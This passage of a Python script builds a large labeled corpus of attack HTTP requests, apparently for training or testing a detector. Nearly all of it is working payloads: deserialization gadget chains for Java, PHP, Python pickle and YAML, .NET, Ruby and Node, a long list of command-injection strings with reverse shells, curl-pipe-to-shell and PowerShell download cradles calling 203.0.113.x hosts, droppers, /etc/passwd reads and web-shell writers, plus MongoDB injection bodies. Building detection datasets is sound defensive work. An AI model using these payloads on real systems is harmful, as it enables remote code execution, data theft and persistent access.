        ("jackson", "/api/jobs", {"@class": "org.springframework.context.support.ClassPathXmlApplicationContext", "configLocation": "http://203.0.113.41/spel.xml"}, "@class ClassPathXmlApplicationContext"),
        ("fastjson", "/api/v2/user/update", {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "rmi://203.0.113.41:1099/Exploit", "autoCommit": True}, "@type JdbcRowSetImpl"),
        ("fastjson", "/api/order/create", {"a": {"@type": "java.lang.Class", "val": "com.sun.rowset.JdbcRowSetImpl"},
                                            "b": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://203.0.113.41:1389/Basic/Command/id", "autoCommit": True}}, "1.2.47 java.lang.Class cache bypass"),
        ("fastjson", "/api/coupon/check", {"@type": "org.apache.tomcat.dbcp.dbcp2.BasicDataSource", "driverClassLoader": {"@type": "com.sun.org.apache.bcel.internal.util.ClassLoader"},
                                           "driverClassName": "$$BCEL$$$l$8b$I$A$A$A$A$A$A$A$8dQ$cbN$c2$40$U$3d$D$85$96Z$e4$r$f8$7e$3f$c0$V$q$c6$85$b8$c3$b8$d0$b8$i$e8$40$86"}, "BCEL ClassLoader BasicDataSource"),
    ]
    for dialect, path, obj, tech in poly:
        em.rec("java", dialect, "POST", path, headers_for("spring", nk(), ctype="application/json"), jdump(obj, k), desc="%s: %s" % (dialect, tech))
    snake = [
        ("ScriptEngineManager URLClassLoader", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://203.0.113.42/yaml-payload.jar\"]]]]"),
        ("JdbcRowSetImpl JNDI", "!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: \"ldap://203.0.113.42:1389/Exploit\", autoCommit: true}"),
        ("ClassPathXmlApplicationContext", "app:\n  name: billing\n  context: !!org.springframework.context.support.ClassPathXmlApplicationContext [\"http://203.0.113.42/beans.xml\"]\n"),
        ("C3P0 WrapperConnectionPoolDataSource", "!!com.mchange.v2.c3p0.WrapperConnectionPoolDataSource\nuserOverridesAsString: \"HexAsciiSerializedMap:%s;\"\n" % cc6.hex().upper()[:400]),
    ]
    for i, (tech, y) in enumerate(snake):
        if i % 2 == 0:
            em.rec("java", "snakeyaml", "POST", "/api/pipelines/import", headers_for("spring", nk(), ctype="application/x-yaml"), y, desc="snakeyaml: " + tech)
        else:
            b = BOUNDARIES[i % len(BOUNDARIES)]
            em.rec("java", "snakeyaml", "POST", "/admin/config/upload", headers_for("spring", nk(), ctype="multipart/form-data; boundary=" + b),
                   multipart([("file", y, "application.yml", "application/x-yaml"), ("apply", "true", None, None)], b), desc="snakeyaml: " + tech + " in an uploaded YAML")
    xstream = ("<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\">"
               "<target class=\"java.lang.ProcessBuilder\"><command><string>bash</string><string>-c</string><string>id</string></command></target>"
               "<action>start</action></handler></dynamic-proxy></sorted-set>")
    em.rec("java", "xstream", "POST", "/struts2-rest-showcase/orders/3", headers_for("jee", nk(), ctype="application/xml"), xstream,
           desc="xstream: EventHandler dynamic proxy")
    em.rec("java", "xstream", "PUT", "/api/inventory/items/42", headers_for("spring", nk(), ctype="application/xml"),
           "<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class=\"com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data\"><dataHandler><dataSource class=\"com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource\"><is class=\"javax.crypto.CipherInputStream\"><cipher class=\"javax.crypto.NullCipher\"><initialized>false</initialized><opmode>0</opmode><serviceIterator class=\"javax.imageio.spi.FilterIterator\"><iter class=\"javax.imageio.spi.FilterIterator\"><iter class=\"java.util.Collections$EmptyIterator\"/><next class=\"java.lang.ProcessBuilder\"><command><string>id</string></command><redirectErrorStream>false</redirectErrorStream></next></iter><filter class=\"javax.imageio.ImageIO$ContainsFilter\"><method><class>java.lang.ProcessBuilder</class><name>start</name><parameter-types/></method><name>foo</name></filter><next class=\"string\">foo</next></serviceIterator><lock/></cipher><input class=\"java.lang.ProcessBuilder$NullInputStream\"/><ibuffer/></is></dataSource></dataHandler></value></jdk.nashorn.internal.objects.NativeString><jdk.nashorn.internal.objects.NativeString reference=\"../jdk.nashorn.internal.objects.NativeString\"/></entry></map>",
           desc="xstream: ImageIO FilterIterator chain")
    xmldecoder = ("<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Header>"
                  "<work:WorkContext xmlns:work=\"http://bea.com/2004/06/soap/workarea/\"><java version=\"1.8.0_151\" class=\"java.beans.XMLDecoder\">"
                  "<void class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"3\"><void index=\"0\"><string>/bin/bash</string></void>"
                  "<void index=\"1\"><string>-c</string></void><void index=\"2\"><string>curl http://203.0.113.43/w|sh</string></void></array>"
                  "<void method=\"start\"/></void></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>")
    em.rec("java", "xmldecoder", "POST", "/wls-wsat/CoordinatorPortType", headers_for("jee", nk(), ctype="text/xml"), xmldecoder,
           desc="xmldecoder: WebLogic WorkContext")

    # --- PHP serialize()
    laravel = PhpObj("Illuminate\\Broadcasting\\PendingBroadcast", [
        (prot("events"), PhpObj("Illuminate\\Bus\\Dispatcher", [(prot("queueResolver"), "system")])),
        (prot("event"), PhpObj("Illuminate\\Broadcasting\\BroadcastEvent", [("connection", "id")]))])
    monolog = PhpObj("Monolog\\Handler\\SyslogUdpHandler", [(prot("socket"), PhpObj("Monolog\\Handler\\BufferHandler", [
        (prot("handler"), None), (prot("bufferSize"), -1), (prot("buffer"), [["curl 203.0.113.44|sh", "level"]]),
        (prot("level"), None), (prot("initialized"), True), (prot("bufferLimit"), -1),
        (prot("processors"), ["current", "system"])]))])
    guzzle = PhpObj("GuzzleHttp\\Cookie\\FileCookieJar", [
        (priv("GuzzleHttp\\Cookie\\FileCookieJar", "filename"), "/var/www/html/public/s.php"),
        (priv("GuzzleHttp\\Cookie\\FileCookieJar", "storeSessionCookies"), True),
        (priv("GuzzleHttp\\Cookie\\CookieJar", "cookies"), [PhpObj("GuzzleHttp\\Cookie\\SetCookie", [
            (priv("GuzzleHttp\\Cookie\\SetCookie", "data"), {"Expires": 1, "Discard": False, "Value": "<?php system($_GET['c']); ?>"})])]),
        (priv("GuzzleHttp\\Cookie\\CookieJar", "strictMode"), None)])
    generic = PhpObj("Config", [("file", "/etc/passwd"), ("isAdmin", True)])
    wrapped = [{"cart": [3, 4]}, PhpObj("App\\Models\\Export", [(prot("path"), "php://filter/convert.base64-encode/resource=../.env")])]
    em.rec("php", "php-serialize", "GET", "/dashboard", headers_for("laravel", nk(), cookie_extra="user_prefs=" + quote(php_s(laravel), safe="")),
           desc="php-serialize: Laravel PendingBroadcast in a cookie")
    em.rec("php", "php-serialize", "POST", "/api/import", headers_for("php", nk(), ctype="application/x-www-form-urlencoded"),
           form([("data", php_s(monolog)), ("type", "settings")]), desc="php-serialize: Monolog BufferHandler chain in a form field")
    em.rec("php", "php-serialize", "POST", "/api/session/load", headers_for("laravel", nk(), ctype="application/json"),
           jdump({"blob": b64(php_s(guzzle).encode())}), desc="php-serialize: Guzzle FileCookieJar writer, base64")
    em.rec("php", "php-serialize", "GET", "/index.php?" + qs([("route", "account/prefs"), ("state", php_s(generic))], 0), headers_for("php", nk()),
           desc="php-serialize: object with typed properties in a query string")
    em.rec("php", "php-serialize", "POST", "/wp-admin/admin-ajax.php", headers_for("wp", nk(), ctype="application/x-www-form-urlencoded"),
           form([("action", "save_widget_state"), ("state", php_s(wrapped))]), desc="php-serialize: object nested in an array")
    em.rec("php", "php-serialize", "GET", "/profile.php", headers_for("php", nk(), cookie_extra="remember=" + quote(b64(php_s(PhpObj("User", [("name", "admin"), ("role", "admin"), ("password_check", False)])).encode()), safe="")),
           desc="php-serialize: role-flipping User object, base64 cookie")
    em.rec("php", "php-serialize", "POST", "/api/cache", headers_for("php", nk(), ctype="application/x-www-form-urlencoded"),
           form([("v", 'C:11:"ArrayObject":%d:{%s}' % (len(AO_INNER), AO_INNER))]),
           desc="php-serialize: C: custom-serialized ArrayObject wrapper")
    for i, (path, val) in enumerate([("/image/resize", "phar:///var/www/html/uploads/avatars/7f3a.jpg/test.txt"),
                                     ("/api/files/exists", "phar://./storage/app/public/invoice.pdf"),
                                     ("/download.php", "compress.zlib://phar:///tmp/php7Yx1.gif/x")]):
        em.rec("php", "phar", "GET", path + "?" + qs([("path" if i else "src", val)], i), headers_for("php", nk()),
               desc="phar: phar:// stream wrapper on an uploaded polyglot")

    # --- Python pickle and PyYAML
    pk = [
        (pickle_call(os.system, ("id",), 0), "protocol 0 posix.system"),
        (pickle_call(os.system, ("curl -s http://203.0.113.45/p.sh | sh",), 2), "protocol 2 posix.system"),
        (pickle_call(subprocess.check_output, (["cat", "/etc/passwd"],), 4), "protocol 4 subprocess.check_output"),
        (pickle_call(eval, ("__import__('os').popen('id').read()",), 4), "protocol 4 builtins.eval"),
        (b"cos\nsystem\n(S'nc -e /bin/sh 203.0.113.45 4444'\ntR.", "hand-written GLOBAL os system"),
        (pickle_call(exec, ("import socket,subprocess;s=socket.create_connection(('203.0.113.45',443));subprocess.call(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())",), 3), "protocol 3 builtins.exec reverse shell"),
    ]
    for i, (blob, tech) in enumerate(pk):
        kk = nk()
        if i % 3 == 0:
            em.rec("generic", "pickle", "GET", "/api/v1/dashboard", headers_for("flask", kk, cookie_extra="prefs=" + b64(blob)), desc="pickle: %s, base64 cookie" % tech)
        elif i % 3 == 1:
            em.rec("generic", "pickle", "POST", "/api/jobs/resume", headers_for("flask", kk, ctype="application/json"), jdump({"job_id": "ingest-7781", "checkpoint": b64(blob)}),
                   desc="pickle: %s, base64 in JSON" % tech)
        else:
            bnd = BOUNDARIES[i % len(BOUNDARIES)]
            em.raw("generic", "pickle", raw_request("POST", "/api/models/upload", headers_for("flask", kk, ctype="multipart/form-data; boundary=" + bnd),
                   multipart_bytes([("name", "churn-v3", None, None), ("model", blob, "model.pkl", "application/octet-stream")], bnd)),
                   desc="pickle: %s, uploaded as a model file" % tech)
    pyyaml = [
        ("object/apply os.system", "!!python/object/apply:os.system [\"id\"]"),
        ("object/new subprocess.check_output", "!!python/object/new:subprocess.check_output [[\"cat\", \"/etc/passwd\"]]"),
        ("object/apply Popen with a tuple", "!!python/object/apply:subprocess.Popen\n- !!python/tuple\n  - sh\n  - -c\n  - curl 203.0.113.46 | sh\n"),
        ("full_load bypass via map/eval", "!!python/object/new:tuple [!!python/object/new:map [!!python/name:eval , [\"__import__('os').system('id')\"]]]"),
        ("object/new type with exec state", "!!python/object/new:type\n  args: [\"z\", !!python/tuple [], {\"extend\": !!python/name:exec }]\n  listitems: \"__import__('os').system('id')\"\n"),
    ]
    for i, (tech, y) in enumerate(pyyaml):
        if i % 2:
            em.rec("generic", "pyyaml", "POST", "/api/v1/workflows", headers_for("flask", nk(), ctype="application/x-yaml"), "name: nightly\nsteps:\n  - " + y.replace("\n", "\n    ") + "\n",
                   desc="pyyaml: " + tech)
        else:
            em.rec("generic", "pyyaml", "POST", "/api/config/validate", headers_for("django", nk(), ctype="application/json"), jdump({"yaml": y}), desc="pyyaml: %s in JSON" % tech)

    # --- .NET
    bf = dotnet_binaryformatter("powershell -nop -w hidden -c iwr http://203.0.113.47/a.ps1|iex")
    em.rec("generic", "dotnet-binaryformatter", "POST", "/api/Session/Import", headers_for("api", nk(), ctype="application/json"),
           jdump({"sessionData": b64(bf)}), desc="dotnet-binaryformatter: TextFormattingRunProperties, base64")
    em.rec("generic", "dotnet-binaryformatter", "GET", "/Portal/Home.aspx", headers_for("aspnet", nk(), cookie_extra="UserState=" + quote(b64(bf), safe="")),
           desc="dotnet-binaryformatter: TextFormattingRunProperties in a cookie")
    for i, args in enumerate(["whoami > C:\\inetpub\\wwwroot\\w.txt", "certutil -urlcache -f http://203.0.113.47/b.exe %TEMP%\\b.exe"]):
        vs = viewstate_gadget(args, 20 if i == 0 else 32)
        em.rec("generic", "dotnet-viewstate", "POST", "/Default.aspx" if i == 0 else "/Account/Settings.aspx",
               headers_for("aspnet", nk(), ctype="application/x-www-form-urlencoded"),
               form([("__VIEWSTATE", b64(vs)), ("__VIEWSTATEGENERATOR", "CA0B0334"), ("__EVENTTARGET", ""), ("__EVENTARGUMENT", "")]),
               desc="dotnet-viewstate: ysoserial.net ViewState with a MAC")
    jsonnet = [
        ({"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35",
          "MethodName": "Start", "MethodParameters": {"$type": "System.Collections.ArrayList, mscorlib, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089",
                                                      "$values": ["cmd", "/c calc"]},
          "ObjectInstance": {"$type": "System.Diagnostics.Process, System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089"}}, "ObjectDataProvider Process.Start"),
        ({"$type": "System.Configuration.Install.AssemblyInstaller, System.Configuration.Install, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a",
          "Path": "file:///\\\\203.0.113.48\\share\\payload.dll"}, "AssemblyInstaller remote DLL"),
        ({"order": {"id": 9, "note": {"$type": "System.IO.FileInfo, System.IO.FileSystem", "fileName": "C:\\inetpub\\wwwroot\\web.config", "IsReadOnly": False}}}, "FileInfo nested in an order"),
        ({"$type": "System.Windows.Forms.BindingSource, System.Windows.Forms", "DataMember": "x",
          "dataSource": {"$type": "System.Data.DataSet, System.Data", "XmlSchema": "<xs:schema/>"}}, "DataSet via BindingSource"),
    ]
    for obj, tech in jsonnet:
        em.rec("generic", "jsonnet", "POST", "/api/orders" if "order" in obj else "/api/Settings/Save", headers_for("api", nk(), ctype="application/json"),
               jdump(obj, k), desc="jsonnet: $type " + tech)
    em.rec("generic", "javascriptserializer", "POST", "/Services/Profile.asmx/Save", headers_for("aspnet", nk(), ctype="application/json; charset=utf-8"),
           jdump({"profile": {"__type": "System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35",
                              "MethodName": "Start", "ObjectInstance": {"__type": "System.Diagnostics.Process, System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089",
                                                                        "StartInfo": {"__type": "System.Diagnostics.ProcessStartInfo, System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089",
                                                                                      "FileName": "cmd", "Arguments": "/c nslookup x.oast.example"}}}}),
           desc="javascriptserializer: __type with a SimpleTypeResolver")
    dnn = ('<profile><item key="k" type="System.Data.Services.Internal.ExpandedWrapper`2[[System.Web.UI.LosFormatter, System.Web, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a],'
           '[System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35]], System.Data.Services, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089">'
           '<ExpandedWrapperOfLosFormatterObjectDataProvider><ProjectedProperty0><MethodName>Deserialize</MethodName><MethodParameters><anyType xsi:type="xsd:string" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:xsd="http://www.w3.org/2001/XMLSchema">'
           + b64(viewstate_gadget("ping -n 1 203.0.113.48", 0)) + '</anyType></MethodParameters><ObjectInstance xsi:type="LosFormatter" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"/></ProjectedProperty0></ExpandedWrapperOfLosFormatterObjectDataProvider></item></profile>')
    em.rec("generic", "xmlserializer", "GET", "/__", headers_for("aspnet", nk(), cookie_extra="DNNPersonalization=" + dnn),
           desc="xmlserializer: DNNPersonalization ExpandedWrapper")

    # --- Ruby
    rm = ruby_marshal_gadget("curl -s http://203.0.113.49/r | sh")
    em.rec("generic", "ruby-marshal", "GET", "/account", headers_for("rails", nk(), cookie_extra="remember_token=" + quote(b64(rm), safe="")),
           desc="ruby-marshal: Gem::Requirement universal gadget, base64 cookie")
    em.rec("generic", "ruby-marshal", "POST", "/api/v1/cache/warm", headers_for("rails", nk(), ctype="application/json"), jdump({"entry": b64(rm)}),
           desc="ruby-marshal: universal gadget in JSON")
    ryaml = ("--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::SpecFetcher\ni: y\n--- !ruby/object:Gem::Requirement\nrequirements:\n"
             "  !ruby/object:Gem::Package::TarReader\n  io: &1 !ruby/object:Net::BufferedIO\n    io: &1 !ruby/object:Gem::Package::TarReader::Entry\n"
             "       read: 0\n       header: \"abc\"\n    debug_output: &1 !ruby/object:Net::WriteAdapter\n       socket: &1 !ruby/object:Gem::RequestSet\n"
             "           sets: !ruby/object:Net::WriteAdapter\n               socket: !ruby/module 'Kernel'\n               method_id: :system\n"
             "           git_set: id\n       method_id: :resolve\n")
    em.rec("generic", "ruby-yaml", "POST", "/api/v1/imports", headers_for("rails", nk(), ctype="application/x-yaml"), ryaml,
           desc="ruby-yaml: Psych universal gadget")
    em.rec("generic", "ruby-yaml", "POST", "/settings", headers_for("rails", nk(), ctype="application/x-www-form-urlencoded"),
           form([("setting[value]", "--- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n? ! \"foo; system('id') ;@executed = true\"\n: !ruby/struct\n  defaults:\n    :action: create\n"), ("commit", "Save")]),
           desc="ruby-yaml: ruby/hash NamedRouteCollection (Rails YAML params)")

    # --- Node
    ns = '{"username":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'curl http://203.0.113.51/$(whoami)\', function(e,o){});}()","country":"NL","city":"Utrecht"}'
    em.rec("rce", "node-serialize", "GET", "/", headers_for("express", nk(), cookie_extra="profile=" + b64(ns.encode())),
           desc="node-serialize: IIFE in a base64 profile cookie")
    em.rec("rce", "node-serialize", "POST", "/api/preferences", headers_for("express", nk(), ctype="application/json"),
           jdump({"prefs": '{"rce":"_$$ND_FUNC$$_function(){return require(\'fs\').readFileSync(\'/etc/passwd\',\'utf8\')}()"}'}),
           desc="node-serialize: serialized object string in JSON")
    em.rec("rce", "funcster", "POST", "/api/widgets/restore", headers_for("express", nk(), ctype="application/json"),
           jdump({"widget": {"__js_function": "function(){ var net = process.mainModule.require('net'), cp = process.mainModule.require('child_process'), sh = cp.spawn('/bin/sh', []); var c = new net.Socket(); c.connect(4444, '203.0.113.51', function(){ c.pipe(sh.stdin); sh.stdout.pipe(c); }); }()"}}),
           desc="funcster: __js_function reverse shell")


# ============================================================================ shells

def ps_enc(script):
    return base64.b64encode(script.encode("utf-16-le")).decode()


SHELL = [
    # (dialect, family, technique, payload)
    ("bash", "unix", "semicolon", "127.0.0.1;id"),
    ("bash", "unix", "&& curl | bash", "127.0.0.1 && curl -s http://203.0.113.60/s.sh | bash"),
    ("bash", "unix", "$() substitution", "example.com$(id)"),
    ("bash", "unix", "backticks", "example.com`whoami`"),
    ("bash", "unix", "${IFS} as space", "x;cat${IFS}/etc/passwd"),
    ("bash", "unix", "brace expansion", "x;{cat,/etc/passwd}"),
    ("bash", "unix", "quote splitting", "x;c'a't /e\"t\"c/pa''ss''wd"),
    ("bash", "unix", "? globs", "x;/???/c?t /???/p??s??"),
    ("bash", "unix", "ANSI-C $'\\x' quoting", "x;$'\\x63\\x61\\x74' $'\\x2fetc\\x2fpasswd'"),
    ("bash", "unix", "base64 -d | bash", "x;echo aWQ7dW5hbWUgLWE=|base64 -d|bash"),
    ("bash", "unix", "variables concatenated", "x;a=who;b=ami;$a$b"),
    ("bash", "unix", "${HOME:0:1} slashes", "x;cat ${HOME:0:1}etc${HOME:0:1}passwd"),
    ("bash", "unix", "$@ insertion", "x;wh$@oami"),
    ("bash", "unix", "backslash insertion", "x;w\\ho\\am\\i"),
    ("bash", "unix", "/dev/tcp reverse shell", "x;bash -i >& /dev/tcp/203.0.113.61/4444 0>&1"),
    ("bash", "unix", "process substitution", "x;bash <(curl -s http://203.0.113.60/x)"),
    ("bash", "unix", "here-string", "x;bash<<<$(base64 -d<<<aWQ=)"),
    ("bash", "unix", "newline separator", "127.0.0.1\nid"),
    ("bash", "unix", "printf octal", "x;$(printf '\\151\\144')"),
    ("bash", "unix", "DNS exfiltration with $(whoami)", "x;curl http://$(whoami).sh.oast.example/"),
    ("bash", "unix", "rev here-string", "x;$(rev<<<'imaohw')"),
    ("sh", "unix", "wget | sh", "x;wget -qO- http://203.0.113.60/s.sh|sh"),
    ("sh", "unix", "nc -e", "x|nc 203.0.113.61 4444 -e /bin/sh"),
    ("sh", "unix", "mkfifo reverse shell", "x;rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.61 4444 >/tmp/f"),
    ("sh", "unix", "sh -c", "x;sh -c 'id;uname -a'"),
    ("busybox", "iot", "busybox nc -e", ";busybox nc 203.0.113.61 4444 -e /bin/sh"),
    ("busybox", "iot", "$(busybox wget) dropper", "$(busybox wget http://203.0.113.62/mips -O /tmp/m; chmod 777 /tmp/m; /tmp/m)"),
    ("busybox", "iot", "busybox telnetd", ";busybox telnetd -l /bin/sh -p 9999"),
    ("busybox", "iot", "tftp dropper in backticks", "`cd /tmp; tftp -g -r mipsel 203.0.113.62; chmod +x mipsel; ./mipsel`"),
    ("busybox", "iot", "busybox httpd serving /", ";busybox httpd -p 8081 -h /"),
    ("busybox", "iot", "$IFS with busybox wget", "|busybox${IFS}wget${IFS}http://203.0.113.62/a.sh${IFS}-O-|sh"),
    ("zsh", "unix", "zsh/net/tcp reverse shell", "x;zsh -c 'zmodload zsh/net/tcp; ztcp 203.0.113.61 4444; zsh >&$REPLY 2>&$REPLY 0>&$REPLY'"),
    ("zsh", "unix", "zsh/system sysread", "x;zsh -c 'zmodload zsh/system; sysopen -r -u 3 /etc/passwd; sysread -i 3 b; print $b'"),
    ("zsh", "unix", "e: glob qualifier", "x;print -l /etc/*(e:'curl -s 203.0.113.60|sh':)"),
    ("zsh", "unix", "prompt expansion", "x;echo ${(%):-%n}@${(%):-%m}"),
    ("powershell", "win", "-enc download cradle", "127.0.0.1; powershell -nop -w hidden -enc " + ps_enc("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.63/a.ps1')")),
    ("powershell", "win", "-EncodedCommand file read", "127.0.0.1 | powershell -ExecutionPolicy Bypass -EncodedCommand " + ps_enc("Get-Content C:\\Windows\\win.ini")),
    ("powershell", "win", "iex(iwr)", "127.0.0.1 & powershell -c \"iex(iwr http://203.0.113.63/r.ps1 -UseBasicParsing)\""),
    ("powershell", "win", "backtick obfuscation", "127.0.0.1 & powershell -c \"I`E`X(N`ew-Obj`ect Net.WebC`lient).DownloadString('http://203.0.113.63/b')\""),
    ("powershell", "win", "char array to scriptblock", "127.0.0.1 & powershell -c \"&([scriptblock]::Create(-join[char[]](119,104,111,97,109,105)))\""),
    ("powershell", "win", "$env:ComSpec", "127.0.0.1 & powershell -c \"& $env:ComSpec /c whoami\""),
    ("powershell", "win", "-e TCPClient reverse shell", "127.0.0.1 | powershell.exe -NoP -NonI -W Hidden -e " + ps_enc("$c=New-Object System.Net.Sockets.TCPClient('203.0.113.63',443);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$o=(iex $d 2>&1|Out-String);$s.Write(([text.encoding]::ASCII).GetBytes($o),0,$o.Length)}")),
    ("powershell", "win", "Start-Process net user", "x'; Start-Process -FilePath cmd.exe -ArgumentList '/c net user eve P@ssw0rd1 /add'; '"),
    ("powershell", "win", "$() subexpression", "report$(Invoke-WebRequest http://203.0.113.63/x -OutFile $env:TEMP\\x.exe)"),
    ("powershell", "win", "format-operator IEX", "127.0.0.1 & powershell -c \"& ('{1}{0}' -f 'X','IE') (New-Object Net.WebClient).DownloadString('http://203.0.113.63/c')\""),
    ("cmd", "win", "& whoami", "127.0.0.1 & whoami"),
    ("cmd", "win", "| type win.ini", "127.0.0.1 | type C:\\Windows\\win.ini"),
    ("cmd", "win", "certutil dropper", "127.0.0.1 && certutil -urlcache -split -f http://203.0.113.64/a.exe %TEMP%\\a.exe && %TEMP%\\a.exe"),
    ("cmd", "win", "caret escapes", "127.0.0.1 & ^w^h^o^a^m^i"),
    ("cmd", "win", "%COMSPEC%", "127.0.0.1 & %COMSPEC% /c dir C:\\"),
    ("cmd", "win", "delayed expansion", "127.0.0.1 & cmd /v:on /c \"set a=who&&set b=ami&&call !a!!b!\""),
    ("cmd", "win", "set + call", "127.0.0.1 & cmd /c \"set x=net u^ser&&call %x%\""),
    ("cmd", "win", "mshta", "127.0.0.1 | mshta http://203.0.113.64/a.hta"),
    ("cmd", "win", "bitsadmin", "127.0.0.1 & bitsadmin /transfer j /download /priority high http://203.0.113.64/a.exe C:\\Users\\Public\\a.exe"),
    ("cmd", "win", "rundll32 over UNC", "127.0.0.1 & rundll32.exe \\\\203.0.113.64\\share\\x.dll,Entry"),
    ("cmd", "win", "for /f DNS exfiltration", "127.0.0.1 & for /f \"tokens=*\" %i in ('whoami') do nslookup %i.cmd.oast.example"),
    ("cmd", "win", "wmic process call create", "127.0.0.1 && wmic process call create \"cmd /c calc\""),
    ("fish", "unix", "(command) substitution", "x; curl http://(whoami).fish.oast.example/"),
    ("fish", "unix", "| source", "x; curl -s http://203.0.113.60/f.fish | source"),
    ("fish", "unix", "eval (curl)", "x; eval (curl -s http://203.0.113.60/e)"),
    ("fish", "unix", "begin; end block", "x; begin; cat /etc/passwd; end"),
]

SHELL_SITES = {
    "unix": [
        Site("form", "php", "/tools/ping.php", "ip", tmpl=[("count", "4")]),
        Site("query", "flask", "/api/dns/lookup", "host", tmpl=[("type", "A")]),
        Site("json", "express", "/api/media/convert", "filename", tmpl={"filename": "§", "format": "png", "width": 640}),
        Site("multipart", "django", "/reports/upload", None,
             tmpl=[("kind", "csv", None, None), ("file", "sku,qty\nA-1,3\n", "§", "text/csv")]),
        Site("header", "spring", "/api/export", "X-Export-Name"),
        Site("query", "rails", "/admin/backups/run", "label"),
        Site("json", "go", "/api/v1/repos/mirror", "remote", tmpl={"remote": "§", "branch": "main"}),
    ],
    "iot": [
        Site("form", "router", "/cgi-bin/luci/admin/network/diag_ping", "ping_addr", tmpl=[("token", "9c1e2a7b")]),
        Site("query", "router", "/goform/setSysAdm", "admuser", tmpl=[("admpass", "admin")]),
        Site("form", "router", "/apply.cgi", "ntp_server", tmpl=[("submit_button", "index"), ("action", "Apply")]),
        Site("query", "router", "/cgi-bin/diagnostic.cgi", "target", tmpl=[("act", "traceroute")]),
    ],
    "win": [
        Site("form", "aspnet", "/Tools/Ping.aspx", "ctl00$Main$txtHost", tmpl=[("ctl00$Main$btnPing", "Ping")]),
        Site("json", "api", "/api/diagnostics/traceroute", "target", tmpl={"target": "§", "maxHops": 15}),
        Site("query", "aspnet", "/Admin/Backup.aspx", "folder"),
        Site("json", "api", "/api/reports/export", "fileName", tmpl={"reportId": 44, "fileName": "§", "format": "xlsx"}),
    ],
}


def gen_shell(em):
    for i, (dialect, fam, tech, payload) in enumerate(SHELL):
        em.add("rce", dialect, SHELL_SITES[fam], payload, 2 if i % 5 == 0 else 1, desc="%s: %s" % (dialect, tech))


# ============================================================================ NoSQL, graph and key-value stores

def resp(*cmds):
    out = ""
    for c in cmds:
        out += "*%d\r\n" % len(c) + "".join("$%d\r\n%s\r\n" % (len(a.encode()), a) for a in c)
    return out


def gopher_redis(*cmds):
    return "gopher://127.0.0.1:6379/_" + quote(resp(*cmds), safe="")


def gen_nosql(em):
    k = 0

    def nk():
        nonlocal k
        k += 1
        return k

    # --- MongoDB
    mongo_json = [
        ("/api/auth/login", {"username": "admin", "password": {"$gt": ""}}, "$gt empty string password"),
        ("/api/auth/login", {"username": {"$regex": "^adm"}, "password": {"$regex": "^a"}}, "$regex password extraction"),
        ("/api/auth/reset", {"token": {"$ne": None}, "password": "N3wPassw0rd!"}, "$ne null reset token"),
        ("/api/orders/search", {"filter": {"$where": "sleep(5000) || true"}}, "$where sleep"),
        ("/api/users/find", {"$where": "this.password.match(/^a.*/)"}, "$where regex on password"),
        ("/api/products/query", {"filter": {"$expr": {"$function": {"body": "function() { sleep(5000); return true; }", "args": [], "lang": "js"}}}}, "$expr $function"),
        ("/api/reports/aggregate", {"pipeline": [{"$lookup": {"from": "users", "pipeline": [{"$project": {"email": 1, "passwordHash": 1}}], "as": "u"}}]}, "$lookup into users"),
        ("/api/stats/group", {"pipeline": [{"$group": {"_id": "$region", "x": {"$accumulator": {"init": "function(){ return require('child_process') }", "accumulate": "function(s){return s}", "accumulateArgs": [], "merge": "function(a,b){return a}", "lang": "js"}}}}]}, "$accumulator server-side JS"),
        ("/api/auth/otp/verify", {"email": "victim@example.com", "otp": {"$nin": []}}, "$nin empty list OTP"),
        ("/api/notes/search", {"owner": {"$exists": True}, "$or": [{"shared": True}, {"_id": {"$gt": ""}}]}, "$or widening owner filter"),
    ]
    for path, body, tech in mongo_json:
        em.rec("nosqli", "mongodb", "POST", path, headers_for("express", nk(), ctype="application/json"), jdump(body, k), desc="mongodb: " + tech)
    mongo_q = [
        ("/login", [("username", "admin"), ("password[$ne]", "x")], "form", "password[$ne] in a login form"),
        ("/api/users", [("email[$regex]", ".*"), ("role", "admin")], "query", "email[$regex] wildcard"),
        ("/api/items", [("search[$where]", "sleep(3000)")], "query", "search[$where] through qs parsing"),
        ("/account/recover", [("email[$gt]", ""), ("submit", "Send")], "form", "email[$gt] in a recovery form"),
